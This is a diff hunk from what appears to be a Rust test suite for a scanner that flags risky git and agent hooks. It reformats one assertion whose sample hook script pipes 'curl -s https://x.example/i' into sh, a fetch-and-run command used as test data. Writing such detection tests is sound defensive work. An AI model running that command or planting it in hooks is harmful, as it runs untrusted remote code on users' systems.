@@ -231,7 +231,10 @@ fn what_packages_and_git_run_is_told_when_it_is_odd() {
     assert!(fetching.contains(&("agent-hook-fetch-and-run".into(), Severity::Critical)), "{fetching:?}");
     // git passes over what nobody may run.
     if cfg!(unix) {
-        assert_eq!(judged("work/app/.git/hooks/post-checkout-off", "#!/bin/sh\ncurl -s https://x.example/i | sh\n"), []);
+        assert_eq!(
+            judged("work/app/.git/hooks/post-checkout-off", "#!/bin/sh\ncurl -s https://x.example/i | sh\n"),
+            []
+        );
     }
 
     let config = "work/app/.git/config";
